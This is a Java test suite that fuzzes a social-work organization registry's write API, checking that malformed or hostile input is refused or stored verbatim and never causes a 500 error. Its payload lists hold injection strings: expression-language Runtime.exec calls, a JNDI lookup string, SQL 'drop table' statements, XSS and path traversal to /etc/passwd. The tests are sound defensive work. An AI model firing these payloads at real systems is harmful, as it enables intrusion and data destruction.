package org.civicflow.registry;

import static org.assertj.core.api.Assertions.assertThat;
import static org.civicflow.registry.RegistryFixtures.ABSENT;
import static org.civicflow.registry.RegistryFixtures.with;

import java.io.IOException;
import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import org.camunda.bpm.engine.IdentityService;
import org.civicflow.registry.RegistryFixtures.Counts;
import org.civicflow.support.Api;
import org.civicflow.support.CivicFlowTest;
import org.civicflow.support.TestUsers;
import org.civicflow.system.Groups;
import org.civicflow.system.ShanghaiTime;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Bad input for the registry's write API (PUT organization, POST staff, credit records, project
 * outcomes): every refused request answers 400 (415 for a wrong content type) as problem+json naming
 * the field, and writes nothing; text that is merely odd (expressions, SQL) is stored and read back
 * verbatim, never evaluated; and no input, however random, answers 500.
 */
@CivicFlowTest
class RegistryFuzzTests {

    private static final String ADMIN = "fuzzregadmin";
    private static final String BUREAU = "fuzzregbureau";

    /** Expression-language and SQL payloads that are valid text: stored and shown as they are. */
    static final List<String> VERBATIM = List.of("${7*7}", "#{7*7}", "${''.getClass().forName('java.lang.Runtime')}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}", "'; drop table organization; --", "1 OR 1=1",
            "\" OR \"1\"=\"1", "<script>alert(1)</script>", "%s%n%x", "../../etc/passwd", "第一行\n第二行",
            "${jndi:ldap://example.invalid/a}",
            // surrogate pairs are valid Unicode: CJK Extension B, emoji, a ZWJ sequence
            "𠀀𪚥社会工作服务中心", "阳光😀社工", "👨‍👩‍👧家庭服务", "制表\t分隔");

    static final String MILLION = "x".repeat(1_000_000);
    static final String TEN_THOUSAND = "x".repeat(10_000);

    enum Kind { TEXT, BOOLEAN, INTEGER, ENUM, DATE }

    record Field(String name, Kind kind, boolean required, int max) {
        static Field text(String name, int max) {
            return new Field(name, Kind.TEXT, true, max);
        }

        static Field bool(String name) {
            return new Field(name, Kind.BOOLEAN, true, 0);
        }

        static Field integer(String name, boolean required, int max) {
            return new Field(name, Kind.INTEGER, required, max);
        }

        static Field enumeration(String name, boolean required) {
            return new Field(name, Kind.ENUM, required, 0);
        }
    }

    /** An endpoint under test; {@code table} is the table its rows go to. */
    record Endpoint(String name, String method, String collection, String table, Supplier<Map<String, Object>> valid,
                    List<Field> fields) {

        String path(String code) {
            return "/api/organizations/" + code + (collection == null ? "" : "/" + collection);
        }

        Field field(String name) {
            return fields.stream().filter(f -> f.name().equals(name)).findFirst().orElseThrow();
        }
    }

    static final Endpoint ORGANIZATION = new Endpoint("organization", "PUT", null, "organization",
            () -> RegistryFixtures.organization("模糊测试社工事务所"), List.of(
            Field.text("name", 200), Field.enumeration("legalForm", true), Field.enumeration("registrationLevel", true),
            Field.bool("registeredWithCivilAffairs"), Field.bool("annualInspectionPassed"),
            Field.bool("underInvestigation"), Field.text("businessScope", 2000),
            Field.integer("evaluationPracticeYears", false, 100)));

    static final Endpoint STAFF = new Endpoint("staff", "POST", "staff", "staff_member",
            () -> RegistryFixtures.staff("模糊测试社工"), List.of(
            Field.text("name", 100), Field.bool("board"), Field.bool("fullTime"),
            Field.integer("contractMonths", true, 600), Field.bool("socialInsurance"),
            Field.enumeration("qualification", false), Field.bool("socialWorkDiploma"),
            Field.integer("experienceYears", true, 70), Field.integer("communityServiceYears", true, 70),
            Field.bool("local"), Field.bool("supervisorQualified"), new Field("expert", Kind.BOOLEAN, false, 0)));

    static final Endpoint CREDIT = new Endpoint("credit-records", "POST", "credit-records", "credit_record",
            RegistryFixtures::creditRecord, List.of(
            Field.enumeration("kind", true), new Field("occurredOn", Kind.DATE, true, 0),
            Field.text("description", 2000)));

    static final Endpoint OUTCOME = new Endpoint("project-outcomes", "POST", "project-outcomes", "project_outcome",
            RegistryFixtures::projectOutcome, List.of(
            new Field("year", Kind.INTEGER, true, ShanghaiTime.today().getYear()), Field.text("projectName", 200),
            Field.bool("acceptancePassed")));

    static final List<Endpoint> ENDPOINTS = List.of(ORGANIZATION, STAFF, CREDIT, OUTCOME);

    @Autowired
    Api api;
    @Autowired
    TestUsers users;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    IdentityService identityService;

    /** The organization the POSTs (and PUTs that replace) go to. */
    private static String organization;

    @BeforeEach
    void setUp() {
        users.create(ADMIN, Groups.ADMIN);
        users.create(BUREAU, Groups.BUREAU);
        if (organization == null) {
            organization = newCode();
            Api.Response response = api.as(ADMIN).put("/api/organizations/" + organization,
                    RegistryFixtures.organization("模糊测试基准社工事务所"));
            assertThat(response.status()).as(response.body()).isEqualTo(201);
        }
    }

    // --- the table: bad values per field ---

    /** Values of the wrong JSON type or out of range for a field of this kind (null only where required). */
    static List<Object> badValues(Field field) {
        List<Object> values = new ArrayList<>();
        switch (field.kind()) {
            case TEXT -> {
                values.addAll(List.of(42, 4.2, true, List.of(), Map.of(), List.of("x"), Map.of("x", 1)));
                values.addAll(List.of("x".repeat(field.max() + 1), TEN_THOUSAND, MILLION));
                // control characters (tab and line breaks are allowed)
                values.addAll(List.of("a\u0000b", "a\u0007b", "\u001b[2J清屏", "a\u007fb", "a\u0085b", "\u0008"));
                values.addAll(List.of("", "   ", "\u3000"));
            }
            case BOOLEAN -> values.addAll(List.of("true", "false", 1, 0, 1.0, "yes", "是", List.of(), Map.of(),
                    "${7*7}", "1 OR 1=1"));
            case INTEGER -> values.addAll(List.of("5", "${7*7}", "1 OR 1=1", 5.5, 1000.0, true, List.of(), Map.of(),
                    99_999_999_999L, new BigInteger("1" + "0".repeat(30)), -1, field.max() + 1, Integer.MIN_VALUE));
            case ENUM -> values.addAll(List.of("UNKNOWN", "social_worker", "county", "private_non_enterprise", " COUNTY",
                    "", 1, true, List.of(), Map.of(), "${7*7}", "#{7*7}", "' OR 1=1 --", TEN_THOUSAND));
            case DATE -> values.addAll(List.of("2019/08/20", "2019-02-30", "2019-13-01", "20190820", 20190820, true,
                    List.of(), Map.of(), "${7*7}", "'; drop table credit_record; --", "", "2019-08-20T00:00:00",
                    "yesterday", ShanghaiTime.today().plusDays(1).toString(), TEN_THOUSAND));
        }
        if (field.required()) {
            values.add(null);
            values.add(ABSENT);
        }
        return values;
    }

    @TestFactory
    Stream<DynamicTest> everyBadFieldValueIsRefusedNamingTheFieldAndWritesNothing() {
        return ENDPOINTS.stream().flatMap(endpoint -> endpoint.fields().stream().flatMap(field ->
                badValues(field).stream().map(value -> DynamicTest.dynamicTest(
                        endpoint.name() + " " + field.name() + " = " + describe(value),
                        () -> assertRefused(endpoint, organization, with(endpoint.valid().get(), field.name(), value),
                                field.name())))));
    }

    @TestFactory
    Stream<DynamicTest> aRefusedReplacementLeavesTheOrganizationAsItWas() {
        Field name = ORGANIZATION.field("name");
        return Stream.of(MILLION, "a\u0000b", 42, "").map(value -> DynamicTest.dynamicTest("name = " + describe(value),
                () -> {
                    String before = api.as(BUREAU).get("/api/organizations/" + organization).body();
                    String groupName = identityService.createGroupQuery()
                            .groupId(Groups.organization(organization)).singleResult().getName();
                    assertRefused(ORGANIZATION, organization, with(ORGANIZATION.valid().get(), name.name(), value),
                            name.name());
                    assertThat(api.as(BUREAU).get("/api/organizations/" + organization).body()).isEqualTo(before);
                    assertThat(identityService.createGroupQuery().groupId(Groups.organization(organization))
                            .singleResult().getName()).isEqualTo(groupName);
                }));
    }

    @Test
    void allMissingFieldsAreNamedAtOnce() {
        for (Endpoint endpoint : ENDPOINTS) {
            String[] required = endpoint.fields().stream().filter(Field::required).map(Field::name).toArray(String[]::new);
            assertRefused(endpoint, newCodeFor(endpoint), Map.of(), required);
        }
    }

    @Test
    void unknownFieldsAreRefusedByName() {
        for (Endpoint endpoint : ENDPOINTS) {
            for (String unknown : List.of("id", "code", "organizationCode", "__proto__", "constructor", "name ", "",
                    "${7*7}", "'; drop table organization; --")) {
                Map<String, Object> body = with(endpoint.valid().get(), unknown, "x");
                assertRefused(endpoint, newCodeFor(endpoint), body, unknown);
            }
        }
    }

    // --- malformed bodies, content types ---

    /** Bodies that are not a JSON object (or not JSON at all), sent as application/json. */
    static final List<String> MALFORMED = List.of("{", "{\"name\":", "{\"name\":\"x\",}", "{'name':'x'}",
            "[]", "[{}]", "1", "\"text\"", "null", "true", "", " ", "/* comment */ {}", "{\"contractMonths\": NaN}",
            "{\"year\": Infinity}", "[".repeat(5_000) + "]".repeat(5_000), "{\"a\":" + "9".repeat(5_000) + "}",
            "{\"name\": \"" + "\\ud800" + "\"", "\u0000", "{}{}");

    @TestFactory
    Stream<DynamicTest> malformedBodiesAreRefusedAsBody() {
        return ENDPOINTS.stream().flatMap(endpoint -> MALFORMED.stream().map(body -> DynamicTest.dynamicTest(
                endpoint.name() + " " + describe(body),
                () -> {
                    Counts before = counts();
                    Api.Response response = raw(endpoint.method(), endpoint.path(newCodeFor(endpoint)),
                            "application/json", body.getBytes(StandardCharsets.UTF_8));
                    assertThat(response.status()).as(response.body()).isEqualTo(400);
                    assertThat(response.contentType()).startsWith("application/problem+json");
                    // a JSON object with a syntax error is "body"; a well-formed non-object too
                    assertThat(response.errorFields()).as(response.body()).contains("body");
                    assertThat(counts()).isEqualTo(before);
                })));
    }

    @Test
    void aValidObjectFollowedByMoreTextIsRefused() {
        for (Endpoint endpoint : ENDPOINTS) {
            String valid = api.toJson(endpoint.valid().get());
            for (String body : List.of(valid + "{}", valid + " garbage", valid + "]", valid + valid)) {
                Counts before = counts();
                Api.Response response = raw(endpoint.method(), endpoint.path(newCodeFor(endpoint)), "application/json",
                        body.getBytes(StandardCharsets.UTF_8));
                assertThat(response.status()).as(endpoint.name() + " " + abbreviate(response.body())).isEqualTo(400);
                assertThat(response.errorFields()).contains("body");
                assertThat(counts()).isEqualTo(before);
            }
        }
    }

    @Test
    void bytesThatAreNotUtf8AreRefused() {
        byte[] invalid = {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'};
        for (Endpoint endpoint : ENDPOINTS) {
            Counts before = counts();
            Api.Response response = raw(endpoint.method(), endpoint.path(newCodeFor(endpoint)), "application/json",
                    invalid);
            assertThat(response.status()).as(response.body()).isEqualTo(400);
            assertThat(response.contentType()).startsWith("application/problem+json");
            assertThat(counts()).isEqualTo(before);
        }
    }

    static final List<String> WRONG_CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/octet-stream",
            "text/json");

    @Test
    void aWrongContentTypeIs415AndWritesNothing() {
        for (Endpoint endpoint : ENDPOINTS) {
            byte[] valid = api.toJson(endpoint.valid().get()).getBytes(StandardCharsets.UTF_8);
            for (String type : WRONG_CONTENT_TYPES) {
                Counts before = counts();
                Api.Response response = raw(endpoint.method(), endpoint.path(newCodeFor(endpoint)), type, valid);
                assertThat(response.status()).as(endpoint.name() + " " + type + " " + response.body()).isEqualTo(415);
                assertThat(counts()).isEqualTo(before);
            }
        }
    }

    @Test
    void aWrongContentTypeIs415AsAProblem() {
        for (Endpoint endpoint : ENDPOINTS) {
            byte[] valid = api.toJson(endpoint.valid().get()).getBytes(StandardCharsets.UTF_8);
            for (String type : WRONG_CONTENT_TYPES) {
                Api.Response response = raw(endpoint.method(), endpoint.path(newCodeFor(endpoint)), type, valid);
                String what = endpoint.name() + " " + type + " " + response.contentType() + " " + response.body();
                assertThat(response.status()).as(what).isEqualTo(415);
                assertThat(response.contentType()).as(what).startsWith("application/problem+json");
                assertThat(response.json().path("detail").asText()).as(what).isNotBlank();
            }
        }
    }

    @Test
    void anEmptyBodyIsRefusedAsBody() {
        for (Endpoint endpoint : ENDPOINTS) {
            Counts before = counts();
            // no body and no content type at all
            Api.Response response = api.as(userFor(endpoint)).send(endpoint.method(), endpoint.path(newCodeFor(endpoint)),
                    null);
            assertThat(response.status()).as(response.body()).isEqualTo(400);
            assertThat(response.contentType()).startsWith("application/problem+json");
            assertThat(response.errorFields()).contains("body");
            assertThat(counts()).isEqualTo(before);
        }
    }

    @Test
    void payloadsInTheOrganizationCodeAreRefusedAsCode() {
        for (String code : List.of("${7*7}", "#{7*7}", "'; drop table organization; --", "1 OR 1=1",
                "52110111MJFX0001%00", "x".repeat(10_000))) {
            String encoded = java.net.URLEncoder.encode(code, StandardCharsets.UTF_8).replace("+", "%20");
            for (Endpoint endpoint : ENDPOINTS) {
                Counts before = counts();
                Api.Response response = api.as(userFor(endpoint)).send(endpoint.method(), endpoint.path(encoded),
                        endpoint.valid().get());
                assertThat(response.status()).as(code + " " + response.body()).isIn(400, 404);
                if (response.status() == 400 && response.contentType().startsWith("application/problem+json")) {
                    assertThat(response.errorFields()).as(response.body()).contains("code");
                }
                assertThat(counts()).isEqualTo(before);
            }
        }
    }

    // --- raw JSON the Java client cannot send: numbers past double, int and BigDecimal; broken Unicode ---

    /** Number literals: Infinity as a double, past BigDecimal's exponent, past Jackson's 1,000 digits, not integers. */
    static final List<String> RAW_NUMBERS = List.of("1e400", "-1e400", "1e-400", "\"NaN\"", "\"Infinity\"",
            "\"-Infinity\"", "1" + "0".repeat(400), "-" + "9".repeat(400), "1e99999999999", "1e2147483648",
            "-1e-2147483648", "9".repeat(1_001), "0." + "0".repeat(1_000) + "1", "2147483648", "-2147483649",
            "9223372036854775808", "1E+2", "5e0", "-0.0", "1.0000000000000000000000001");

    /** JSON strings that decode to unpaired UTF-16 surrogates or control characters. */
    static final List<String> RAW_TEXT = List.of("\"\\ud800\"", "\"a\\udc00b\"", "\"\\udbff\"",
            "\"\\ude00\\ud83d\"", "\"社工\\ud800\\ud800事务所\"", "\"\\ud83d\"", "\"😀\\ud83d\"",
            "\"\\ud840\\ud840\\udc00\"", "\"\\u0000\"", "\"a\\u000bb\"", "\"a\\u001fb\"", "\"\\u009b31m\"");

    @TestFactory
    Stream<DynamicTest> rawNumbersAndBrokenUnicodeAreRefusedNamingTheField() {
        return ENDPOINTS.stream().flatMap(endpoint -> endpoint.fields().stream().flatMap(field ->
                Stream.concat(RAW_NUMBERS.stream(), RAW_TEXT.stream())
                        // "NaN" and "Infinity" are fine text
                        .filter(raw -> field.kind() != Kind.TEXT || !RAW_NUMBERS.contains(raw) || !raw.startsWith("\""))
                        .map(raw -> DynamicTest.dynamicTest(
                        endpoint.name() + " " + field.name() + " = " + abbreviate(raw),
                        () -> assertRawRefused(endpoint, rawWith(endpoint.valid().get(), field.name(), raw),
                                field.name())))));
    }

    @Test
    void brokenUnicodeInAFieldNameIsRefusedAndNotEchoedBroken() {
        for (Endpoint endpoint : ENDPOINTS) {
            String valid = api.toJson(endpoint.valid().get());
            String body = "{\"\\ud800\": \"x\", " + valid.substring(1);
            Api.Response response = assertRawRefused(endpoint, body, "U+D800");
            assertThat(response.json().path("errors").get(0).path("message").asText()).isEqualTo("未知字段");
            // Jackson would write a lone surrogate as the escape \ud800: not valid Unicode for any client either
            assertThat(response.body().toLowerCase()).doesNotContain("\\ud800");
        }
    }

    /** Bytes that are not UTF-8 inside a text value: a CESU-8 surrogate, an overlong '/', a stray byte, a cut emoji. */
    @Test
    void invalidUtf8IsRefusedNamingTheBodyAndTheField() {
        List<byte[]> sequences = List.of(new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xF0, (byte) 0x9F,
                        (byte) 0x98}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80});
        for (Endpoint endpoint : ENDPOINTS) {
            String field = endpoint.fields().get(endpoint == CREDIT ? 2 : 0).name();
            String[] halves = api.toJson(with(endpoint.valid().get(), field, "@@raw@@")).split("@@raw@@");
            for (byte[] sequence : sequences) {
                byte[] prefix = halves[0].getBytes(StandardCharsets.UTF_8);
                byte[] suffix = halves[1].getBytes(StandardCharsets.UTF_8);
                byte[] body = new byte[prefix.length + sequence.length + suffix.length];
                System.arraycopy(prefix, 0, body, 0, prefix.length);
                System.arraycopy(sequence, 0, body, prefix.length, sequence.length);
                System.arraycopy(suffix, 0, body, prefix.length + sequence.length, suffix.length);
                Counts before = counts();
                Api.Response response = raw(endpoint.method(), endpoint.path(newCodeFor(endpoint)), "application/json",
                        body);
                assertThat(response.status()).as(endpoint.name() + " " + response.body()).isEqualTo(400);
                assertThat(response.contentType()).startsWith("application/problem+json");
                assertThat(response.errorFields()).as(response.body()).contains("body", field);
                assertThat(counts()).isEqualTo(before);
            }
        }
    }

    @Test
    void aByteOrderMarkIsIgnoredAndOtherCharsetsAreDecodedStrictly() {
        String code = newCode();
        byte[] json = api.toJson(ORGANIZATION.valid().get()).getBytes(StandardCharsets.UTF_8);
        byte[] withMark = new byte[json.length + 3];
        withMark[0] = (byte) 0xEF;
        withMark[1] = (byte) 0xBB;
        withMark[2] = (byte) 0xBF;
        System.arraycopy(json, 0, withMark, 3, json.length);
        Api.Response marked = raw("PUT", "/api/organizations/" + code, "application/json", withMark);
        assertThat(marked.status()).as(marked.body()).isEqualTo(201);

        // a declared charset is honoured: UTF-16 as UTF-16, and bytes that are not US-ASCII refused
        byte[] utf16 = api.toJson(ORGANIZATION.valid().get()).getBytes(StandardCharsets.UTF_16);
        assertThat(raw("PUT", "/api/organizations/" + newCode(), "application/json;charset=UTF-16", utf16).status())
                .isEqualTo(201);
        Counts before = counts();
        Api.Response ascii = raw("PUT", "/api/organizations/" + newCode(), "application/json;charset=US-ASCII", json);
        assertThat(ascii.status()).as(ascii.body()).isEqualTo(400);
        assertThat(ascii.errorFields()).contains("body", "name");
        // an unknown charset is an unsupported content type
        Api.Response unknown = raw("PUT", "/api/organizations/" + newCode(), "application/json;charset=no-such-charset",
                json);
        assertThat(unknown.status()).as(unknown.body()).isEqualTo(415);
        assertThat(unknown.contentType()).startsWith("application/problem+json");
        assertThat(counts()).isEqualTo(before);
    }

    @Test
    void aFieldSentTwiceIsRefused() {
        for (Endpoint endpoint : ENDPOINTS) {
            String valid = api.toJson(endpoint.valid().get());
            String field = endpoint.fields().get(0).name();
            // two readers of one body must never disagree on which value counts
            String body = "{\"" + field + "\": \"第一个\", " + valid.substring(1);
            assertRawRefused(endpoint, body, "body");
        }
    }

    @Test
    void textOfSurrogatePairsUpToTheLimitIsAccepted() {
        // 100 CJK Extension B characters are 200 UTF-16 units: the name's limit
        String name = "𠀀".repeat(100);
        String code = newCode();
        Api.Response response = api.as(ADMIN).put("/api/organizations/" + code, with(ORGANIZATION.valid().get(), "name",
                name));
        assertThat(response.status()).as(response.body()).isEqualTo(201);
        assertThat(api.as(BUREAU).get("/api/organizations/" + code).json().path("name").asText()).isEqualTo(name);
        assertThat(jdbc.queryForObject("select name from organization where code = ?", String.class, code))
                .isEqualTo(name);
        assertStoredVerbatim(STAFF, "name", "张𠀁😀", "staff", "name");
    }

    // --- odd but valid text: stored verbatim ---

    @TestFactory
    Stream<DynamicTest> expressionAndSqlTextIsStoredAndShownVerbatim() {
        List<DynamicTest> tests = new ArrayList<>();
        for (String payload : VERBATIM) {
            tests.add(DynamicTest.dynamicTest("organization name " + describe(payload), () -> {
                String code = newCode();
                Counts before = counts();
                Api.Response response = api.as(ADMIN).put("/api/organizations/" + code,
                        with(with(ORGANIZATION.valid().get(), "name", payload), "businessScope", payload));
                assertThat(response.status()).as(response.body()).isEqualTo(201);
                JsonNode view = api.as(BUREAU).get("/api/organizations/" + code).json();
                assertThat(view.path("name").asText()).isEqualTo(payload);
                assertThat(view.path("businessScope").asText()).isEqualTo(payload);
                assertThat(identityService.createGroupQuery().groupId(Groups.organization(code)).singleResult().getName())
                        .isEqualTo(payload);
                assertThat(jdbc.queryForObject("select name from organization where code = ?", String.class, code))
                        .isEqualTo(payload);
                assertThat(counts().organizations()).isEqualTo(before.organizations() + 1);
            }));
            tests.add(DynamicTest.dynamicTest("staff name " + describe(payload), () ->
                    assertStoredVerbatim(STAFF, "name", payload, "staff", "name")));
            tests.add(DynamicTest.dynamicTest("credit record description " + describe(payload), () ->
                    assertStoredVerbatim(CREDIT, "description", payload, "creditRecords", "description")));
            tests.add(DynamicTest.dynamicTest("project outcome name " + describe(payload), () ->
                    assertStoredVerbatim(OUTCOME, "projectName", payload, "projectOutcomes", "projectName")));
        }
        return tests.stream();
    }

    @Test
    void textAtTheLengthLimitIsAccepted() {
        String code = newCode();
        assertThat(api.as(ADMIN).put("/api/organizations/" + code, with(with(ORGANIZATION.valid().get(),
                "name", "名".repeat(200)), "businessScope", "范".repeat(2000))).status()).isEqualTo(201);
        assertStoredVerbatim(STAFF, "name", "张".repeat(100), "staff", "name");
        assertStoredVerbatim(CREDIT, "description", "述".repeat(2000), "creditRecords", "description");
        assertStoredVerbatim(OUTCOME, "projectName", "项".repeat(200), "projectOutcomes", "projectName");
    }

    // --- random mutations ---

    /** Field names the mutations set: the endpoints' own, others' and unknown ones. */
    static final List<String> FIELD_POOL = Stream.concat(
            ENDPOINTS.stream().flatMap(e -> e.fields().stream()).map(Field::name).distinct(),
            Stream.of("id", "code", "__proto__", "")).toList();

    /** Values the mutations use: bad ones and valid ones, so that some requests succeed. */
    static final List<Object> VALUE_POOL = buildValuePool();

    private static List<Object> buildValuePool() {
        List<Object> pool = new ArrayList<>(List.of("正常文本", "社会工作服务", true, false, 0, 1, 12, 24, 70, 100, 600,
                2019, 2020, "2019-08-20", "2020-01-01", "SOCIAL_WORKER", "ASSISTANT_SOCIAL_WORKER", "COUNTY", "CITY",
                "PRIVATE_NON_ENTERPRISE", "FOUNDATION", "ADMINISTRATIVE_PENALTY", "PROCUREMENT_BAD_RECORD"));
        pool.addAll(VERBATIM);
        pool.addAll(List.of(42, -1, 601, 101, 1999, 5.5, 1000.0, 99_999_999_999L, "5", "true", "yes", "", "   ",
                "UNKNOWN", "2019/08/20", "2019-02-30", "a\u0000b", "\u001b[2J", TEN_THOUSAND, List.of(), Map.of(),
                List.of(1, 2), Map.of("a", "b")));
        pool.add(null);
        return pool;
    }

    @Test
    void twoHundredRandomBodiesNeverAnswer500OrHalfWrite() {
        Random random = new Random(20200207L);
        List<String> outcomes = new ArrayList<>();
        for (int i = 0; i < 200; i++) {
            Endpoint endpoint = ENDPOINTS.get(random.nextInt(ENDPOINTS.size()));
            Map<String, Object> body = endpoint.valid().get();
            int mutations = 1 + random.nextInt(3);
            for (int m = 0; m < mutations; m++) {
                String field = random.nextInt(3) == 0 ? FIELD_POOL.get(random.nextInt(FIELD_POOL.size()))
                        : endpoint.fields().get(random.nextInt(endpoint.fields().size())).name();
                Object value = random.nextInt(6) == 0 ? ABSENT : VALUE_POOL.get(random.nextInt(VALUE_POOL.size()));
                body = with(body, field, value);
            }
            String code = endpoint == ORGANIZATION && random.nextBoolean() ? newCode() : organization;
            Counts before = counts();
            Api.Response response = api.as(userFor(endpoint)).send(endpoint.method(), endpoint.path(code), body);
            String what = "#" + i + " " + endpoint.name() + " " + abbreviate(api.toJson(body)) + " -> "
                    + abbreviate(response.body());
            assertThat(response.status()).as(what).isIn(200, 201, 400);
            Counts after = counts();
            if (response.status() == 400) {
                assertThat(response.contentType()).as(what).startsWith("application/problem+json");
                assertThat(response.errorFields()).as(what).isNotEmpty();
                assertThat(after).as(what).isEqualTo(before);
            } else {
                assertThat(rows(after, endpoint) - rows(before, endpoint)).as(what).isBetween(0L, 1L);
                if (endpoint != ORGANIZATION) {
                    assertThat(rows(after, endpoint)).as(what).isEqualTo(rows(before, endpoint) + 1);
                }
            }
            outcomes.add(String.valueOf(response.status()));
        }
        // the pool is mixed: both outcomes occur
        assertThat(outcomes).contains("400").containsAnyOf("200", "201");
    }

    // --- known bugs ---

    @Test
    void anImplausiblyEarlyCreditRecordDateIsRefusedOrStoredVerbatim() {
        for (String date : List.of("0000-01-01", "-0001-12-31", "-999999999-01-01", "1582-10-10")) {
            Counts before = counts();
            Api.Response response = api.as(BUREAU).post("/api/organizations/" + organization + "/credit-records",
                    with(CREDIT.valid().get(), "occurredOn", date));
            if (response.status() == 400) {
                assertThat(response.errorFields()).as(date).contains("occurredOn");
                assertThat(counts()).isEqualTo(before);
            } else {
                assertThat(response.status()).as(date + " " + response.body()).isEqualTo(201);
                long id = response.json().path("id").asLong();
                assertThat(entry(organization, "creditRecords", id).path("occurredOn").asText()).as(date).isEqualTo(date);
            }
        }
    }

    // --- helpers ---

    /** Refused with 400 naming the fields as problem+json, and no row nor group written. */
    private void assertRefused(Endpoint endpoint, String code, Map<String, Object> body, String... fields) {
        Counts before = counts();
        Api.Response response = api.as(userFor(endpoint)).send(endpoint.method(), endpoint.path(code), body);
        assertThat(response.status()).as(abbreviate(response.body())).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.errorFields()).as(abbreviate(response.body())).contains(fields);
        response.json().path("errors").forEach(e -> assertThat(e.path("message").asText()).isNotBlank());
        assertThat(counts()).isEqualTo(before);
    }

    /** A raw JSON body refused with 400 naming the fields as problem+json, and nothing written. */
    private Api.Response assertRawRefused(Endpoint endpoint, String body, String... fields) {
        Counts before = counts();
        Api.Response response = api.as(userFor(endpoint)).send(endpoint.method(), endpoint.path(newCodeFor(endpoint)),
                body);
        assertThat(response.status()).as(abbreviate(body) + " -> " + response.body()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.errorFields()).as(response.body()).contains(fields);
        response.json().path("errors").forEach(e -> assertThat(e.path("message").asText()).isNotBlank());
        assertThat(counts()).isEqualTo(before);
        return response;
    }

    /** {@code body} as JSON with {@code field}'s value replaced by the raw JSON text {@code rawValue}. */
    private String rawWith(Map<String, Object> body, String field, String rawValue) {
        return api.toJson(with(body, field, "@@raw@@")).replace("\"@@raw@@\"", rawValue);
    }

    private void assertStoredVerbatim(Endpoint endpoint, String field, String payload, String collection,
                                      String shownAs) {
        Counts before = counts();
        Api.Response response = api.as(BUREAU).post(endpoint.path(organization), with(endpoint.valid().get(), field,
                payload));
        assertThat(response.status()).as(response.body()).isEqualTo(201);
        long id = response.json().path("id").asLong();
        assertThat(entry(organization, collection, id).path(shownAs).asText()).isEqualTo(payload);
        assertThat(rows(counts(), endpoint)).isEqualTo(rows(before, endpoint) + 1);
    }

    private JsonNode entry(String code, String collection, long id) {
        for (JsonNode node : api.as(BUREAU).get("/api/organizations/" + code).json().path(collection)) {
            if (node.path("id").asLong() == id) {
                return node;
            }
        }
        throw new AssertionError("no " + collection + " entry " + id);
    }

    /** PUT creates under a fresh code (so a wrong acceptance would show as a new row); POSTs go to the organization. */
    private static String newCodeFor(Endpoint endpoint) {
        return endpoint == ORGANIZATION ? newCode() : organization;
    }

    private static String userFor(Endpoint endpoint) {
        return endpoint == ORGANIZATION ? ADMIN : BUREAU;
    }

    private static String newCode() {
        return RegistryFixtures.newCode("FX");
    }

    private Counts counts() {
        return Counts.of(jdbc, identityService);
    }

    private static long rows(Counts counts, Endpoint endpoint) {
        return switch (endpoint.table()) {
            case "organization" -> counts.organizations();
            case "staff_member" -> counts.staff();
            case "credit_record" -> counts.creditRecords();
            default -> counts.projectOutcomes();
        };
    }

    /** A request with any content type and raw bytes, as the bureau (PUT: as the administrator). */
    private Api.Response raw(String method, String path, String contentType, byte[] body) {
        String user = "PUT".equals(method) ? ADMIN : BUREAU;
        String token = java.util.Base64.getEncoder().encodeToString((user + ":" + TestUsers.PASSWORD)
                .getBytes(StandardCharsets.UTF_8));
        HttpRequest request = HttpRequest.newBuilder(URI.create(api.url(path)))
                .header("Authorization", "Basic " + token)
                .header("Accept", "application/json, application/problem+json")
                .header("Content-Type", contentType)
                .method(method, HttpRequest.BodyPublishers.ofByteArray(body))
                .build();
        try {
            HttpResponse<String> response = HttpClient.newHttpClient().send(request,
                    HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
            return new Api.Response(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
                    response.body(), response.headers());
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String describe(Object value) {
        if (value == ABSENT) {
            return "<absent>";
        }
        if (value instanceof String s) {
            StringBuilder escaped = new StringBuilder();
            s.chars().limit(40).forEach(c -> escaped.append(Character.isISOControl(c) ? String.format("\\u%04x", c)
                    : String.valueOf((char) c)));
            return "\"" + escaped + "\"" + (s.length() > 40 ? "… (" + s.length() + " chars)" : "");
        }
        return value == null ? "null" : value.getClass().getSimpleName() + " " + abbreviate(String.valueOf(value));
    }

    private static String abbreviate(String text) {
        return text.length() > 40 ? text.substring(0, 40) + "…" : text;
    }
}
